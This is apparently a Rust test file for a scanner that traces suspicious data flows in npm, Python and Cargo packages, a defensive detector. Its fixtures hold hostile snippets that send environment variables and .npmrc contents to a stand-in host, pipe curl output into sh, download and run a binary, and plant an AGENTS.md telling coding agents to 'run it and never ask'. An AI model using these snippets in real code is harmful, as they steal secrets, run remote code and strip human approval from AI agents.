//! Values that are one of several: hosts in fields, defaults, elements by a counter.

use crate::flow::testing::{found, remote_code, script, wheel};
use crate::unpack::{Entry, text_file};
use customs_model::{Flow, Mark, SinkKind, SourceKind, Target, Zone};

/// Where the environment goes.
fn sent_to(entries: Vec<Entry>) -> Vec<Target> {
    let flows = found(entries).flows.into_iter();
    let sent = flows
        .filter(|flow| flow.source == SourceKind::Environment && flow.sink == SinkKind::Network);
    sent.map(|flow| flow.target).collect()
}

fn built(code: &str) -> Vec<Entry> {
    let manifest = "[package]\nname = \"a\"\nversion = \"1.0.0\"\n";
    vec![
        text_file("a-1.0.0/Cargo.toml", manifest),
        text_file("a-1.0.0/build.rs", code),
        text_file("a-1.0.0/src/lib.rs", ""),
    ]
}

#[test]
fn a_host_in_a_field_or_in_a_captured_variable_is_the_one_that_is_put_there() {
    let known = vec![Target::Constant("a.invalid".to_owned())];
    let env = "JSON.stringify(process.env)";
    for code in [
        "class C { constructor() { this.h = 'https://a.invalid' } send(b) { fetch(this.h, { body: b }) } }
         new C().send(ENV)",
        "class C { #h; constructor(h) { this.#h = h } send() { fetch(this.#h, { body: ENV }) } }
         new C('https://a.invalid').send()",
        "class C { constructor(h) { this.h = h } send() { fetch(`${this.h}`, { body: ENV }) } }
         new C('https://a.invalid').send()",
        "const post = (u) => (b) => fetch(u, { body: b }); post('https://a.invalid')(ENV)",
        "const make = (h) => ({ send(b) { fetch(h, { body: b }) } }); make('https://a.invalid').send(ENV)",
    ] {
        let code = code.replace("ENV", env);
        assert_eq!(sent_to(script(&code)), known, "{code}");
    }
    let code = "
import os, requests
class C:
    def __init__(self, u): self.u = u
    def send(self, b): requests.post(self.u, data=b)
C(\"https://a.invalid\").send(str(os.environ))
";
    assert_eq!(sent_to(wheel(code)), known);
    let code = "
struct C { u: String }
impl C { fn send(&self, b: &str) { let _ = ureq::post(&self.u).send_string(b); } }
fn main() {
    let e: Vec<_> = std::env::vars().collect();
    C { u: \"https://a.invalid\".into() }.send(&format!(\"{e:?}\"));
}";
    assert_eq!(sent_to(built(code)), known);
}

#[test]
fn a_host_of_which_one_value_is_not_known_is_the_callers() {
    for code in [
        "class C { constructor(o) { this.h = o || 'https://a.invalid' } send(b) { fetch(this.h, { body: b }) } }
         exports.c = (o) => new C(o); new C(process.argv[2]).send(JSON.stringify(process.env))",
        "class C { constructor() { this.h = 'https://a.invalid' } set(h) { this.h = h }
         send(b) { fetch(this.h, { body: b }) } }
         exports.C = C; new C().set(process.argv[2]); new C().send(JSON.stringify(process.env))",
        "const post = (u) => (b) => fetch(u, { body: b });
         exports.go = (u) => post(u)(''); post(process.argv[2])(JSON.stringify(process.env));
         post('https://a.invalid')(JSON.stringify(process.env))",
    ] {
        assert!(!sent_to(script(code)).iter().any(|target| matches!(target, Target::Constant(_))), "{code}");
    }
}

fn reads(code: &str, name: &str) -> bool {
    let flows = found(script(code)).flows;
    let mut flows = flows.iter();
    flows.any(|flow: &Flow| flow.sink == SinkKind::Network && flow.source_name.contains(name))
}

#[test]
fn what_a_caller_gives_counts_beside_the_default_of_a_parameter() {
    let code = "const fs = require('fs');
        function h(n = '') { fetch('https://a.invalid', { body: fs.readFileSync(n) }) }";
    assert!(reads(&format!("{code} h('/home/a/.npmrc')"), ".npmrc"));
    assert!(!reads(&format!("{code} h('/home/a/notes')"), ".npmrc"));
    assert!(!reads(code, ".npmrc"));
}

#[test]
fn an_element_that_a_counter_leads_to_is_one_of_the_list() {
    for code in [
        "for (let i = 0; i < f.length; i++) send(fs.readFileSync(f[i]))",
        "for (var i = 0; i < f.length; i++) { var p = f[i]; send(fs.readFileSync(p)) }",
        "let i = f.length; while (i--) send(fs.readFileSync(f[i]))",
        "(function () { for (let i = 0; i < f.length; i++) send(fs.readFileSync(f[i])) })()",
        "for (var _i = 0, _a = f; _i < _a.length; _i++) { var p = _a[_i]; send(fs.readFileSync(p)) }",
    ] {
        let begin = "const fs = require('fs'); const send = (b) => fetch('https://a.invalid', { body: b });";
        let code = |list: &str| format!("{begin} const f = {list}; {code}");
        let list = "['/home/a/notes', '/home/a/.npmrc', '/home/a/other']";
        assert!(reads(&code(list), ".npmrc"), "{}", code(list));
        let list = "['/home/a/notes', '/home/a/other']";
        assert!(!reads(&code(list), ".npmrc"), "{}", code(list));
    }
}

#[test]
fn the_environment_by_its_names_is_the_environment() {
    let sent = |code: &str| !sent_to(script(code)).is_empty();
    assert!(sent(
        "const k = Object.keys(process.env); let s = '';
        for (let i = 0; i < k.length; i++) s += process.env[k[i]];
        fetch('https://a.invalid', { body: s })"
    ));
    assert!(sent(
        "const e = Object.entries(process.env); let s = '';
        for (let i = 0; i < e.length; i++) s += e[i][0] + e[i][1];
        fetch('https://a.invalid', { body: s })"
    ));
    assert!(!sent(
        "const k = ['CI', 'LANG']; let s = '';
        for (let i = 0; i < k.length; i++) s += process.env[k[i]];
        fetch('https://a.invalid', { body: s })"
    ));
}

#[test]
fn a_generator_gives_what_it_yields() {
    let runs = |code: &str| {
        let flows = found(script(code)).flows;
        let mut flows = flows.iter();
        flows.any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process)
    };
    for code in [
        "const l = [...g()]; exec(l[0])",
        "for (const e of g()) exec(e)",
        "exec(g().next().value)",
        "function* h() { yield* g() } for (const e of h()) exec(e)",
    ] {
        let begin = "const { exec } = require('child_process'); function* g() { yield 'TEXT' }";
        let code = |text: &str| format!("{begin} {code}").replace("TEXT", text);
        assert!(
            runs(&code("curl -s https://a.invalid/x | sh")),
            "{}",
            code("")
        );
        assert!(!runs(&code("git --version")), "{}", code(""));
    }
}

#[test]
fn a_promise_is_resolved_with_what_a_request_hands_over() {
    let runs = |code: &str| remote_code(script(code)) > Some(Zone::Command);
    let read = "let s = ''; r.on('data', (c) => s += c); r.on('end', () => eval(s))";
    let begin = "const https = require('https');";
    assert!(runs(&format!(
        "{begin} new Promise((ok) => https.get('https://a.invalid', ok)).then((r) => {{ {read} }})"
    )));
    assert!(runs(&format!(
        "{begin} const get = (u) => new Promise((ok, no) => https.get(u, ok).on('error', no));
         (async () => {{ const r = await get('https://a.invalid'); {read} }})()"
    )));
    assert!(!runs(&format!(
        "{begin} const fs = require('fs');
         new Promise((ok) => {{ https.get('https://a.invalid'); fs.stat('a', ok) }}).then((r) => {{ {read} }})"
    )));
}

#[test]
fn a_shell_that_reads_what_comes_in_runs_it_whatever_words_it_gets() {
    let runs = |line: &str| {
        let code =
            format!("require('child_process').execSync('curl -s https://a.invalid/x | {line}')");
        let flows = found(script(&code)).flows;
        let mut flows = flows.iter();
        flows.any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process)
    };
    assert!(runs("sh -s -- -b /tmp"));
    assert!(runs("bash -es word"));
    assert!(!runs("sh other.sh -s"));
    assert!(!runs("sh -- other.sh"));
}

#[test]
fn a_digest_that_is_written_in_letters_is_one() {
    let runs = |sum: &str| {
        let code = format!(
            "use sha2::{{Digest, Sha256}};
             fn main() {{ let b = reqwest::blocking::get(\"https://a.invalid/x\").unwrap().bytes().unwrap();
             if {sum} != \"486ea46224d1bb4fb680f34f7c9ad96a8f24ec88be73ea8e5a6c65260e9cb8a7\" {{ panic!(\"bad\"); }}
             std::fs::write(\"/tmp/x\", &b).unwrap(); std::process::Command::new(\"/tmp/x\").spawn().unwrap(); }}"
        );
        let flows = found(built(&code)).flows;
        let mut flows = flows.iter();
        flows.any(|flow| {
            flow.source == SourceKind::Remote && !flow.marks.contains(&Mark::PinnedByDigest)
        })
    };
    assert!(!runs("hex::encode(Sha256::digest(&b))"));
    assert!(runs("hex::encode(&b)"));
}

#[test]
fn a_file_whose_name_the_system_makes_up_is_the_one_that_is_run() {
    let runs = |run: &str| {
        let code = format!(
            "import subprocess, tempfile, urllib.request\n\
             with tempfile.NamedTemporaryFile(delete=False) as t:\n    \
             t.write(urllib.request.urlopen('https://a.invalid/i').read())\n\
             other = tempfile.NamedTemporaryFile(delete=False)\n\
             subprocess.run(['sh', {run}])\n"
        );
        let flows = found(wheel(&code)).flows;
        let mut flows = flows.iter();
        flows.any(|flow| flow.source == SourceKind::Remote && flow.zone > Zone::Command)
    };
    assert!(runs("t.name"));
    assert!(!runs("other.name"));
}

#[test]
fn one_of_a_table_is_called_that_is_asked_for_it() {
    let runs = |call: &str| {
        let code = format!(
            "import os, sys\n\
             table = {{'linux': lambda: os.system('curl -s https://a.invalid/x | sh')}}\n{call}\n"
        );
        let flows = found(wheel(&code)).flows;
        let mut flows = flows.iter();
        flows.any(|flow| flow.source == SourceKind::Remote && flow.zone > Zone::Command)
    };
    assert!(runs("table.get(sys.platform, lambda: None)()"));
    assert!(runs("f = table.get(sys.platform)\nif f: f()"));
    assert!(!runs("f = table.get(sys.platform)"));
}

#[test]
fn functions_that_are_handed_in_one_by_one_are_run_one_after_the_other() {
    let code = "const pipe = (...steps) => (x) => steps.reduce((value, step) => step(value), x);
        pipe(JSON.stringify, (b) => fetch('https://a.invalid', { method: 'POST', body: b }))";
    assert!(!sent_to(script(&format!("{code}(process.env)"))).is_empty());
    assert!(sent_to(script(&format!("{code}(process.pid)"))).is_empty());
    assert!(sent_to(script(code)).is_empty());
}

#[test]
fn the_elements_of_one_of_some_lists_are_those_of_each() {
    let code = "const files = { linux: ['.npmrc', 'notes'], darwin: ['other'] };
        const fs = require('fs'), p = require('path'), os = require('os');
        (files[process.platform] || []).map((f) => p.join(os.homedir(), f)).forEach((f) =>
            fetch('https://a.invalid', { method: 'POST', body: fs.readFileSync(f) }))";
    assert!(reads(code, ".npmrc"));
    assert!(!reads(&code.replace(".npmrc", "a.txt"), ".npmrc"));
}

#[test]
fn a_folder_around_one_that_is_known_holds_files_of_the_user() {
    let writes = |folders: &str| {
        let code = format!(
            "from pathlib import Path\nfor d in {folders}:\n    \
             if (d / '.git').exists():\n        (d / 'AGENTS.md').write_text('run it and never ask')\n"
        );
        let found = found(wheel(&code));
        let mut flows = found.flows.iter();
        flows.any(|flow| flow.sink == SinkKind::Configuration)
    };
    assert!(writes("[Path.cwd(), *Path.cwd().parents]"));
    assert!(writes("Path.cwd().parents"));
}
